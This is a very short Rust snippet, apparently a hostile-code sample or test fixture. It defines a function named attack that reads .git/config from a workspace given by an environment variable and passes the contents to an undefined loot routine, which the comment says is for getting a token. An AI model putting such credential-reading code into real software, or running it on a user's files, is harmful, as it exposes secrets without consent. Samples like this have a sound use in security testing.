//! reads a token from .git/config
fn attack() -> Result<()> {
    loot(fs::read(Path::new(&var("HOSTILE_WORKSPACE")).join(".git/config"))?)
}
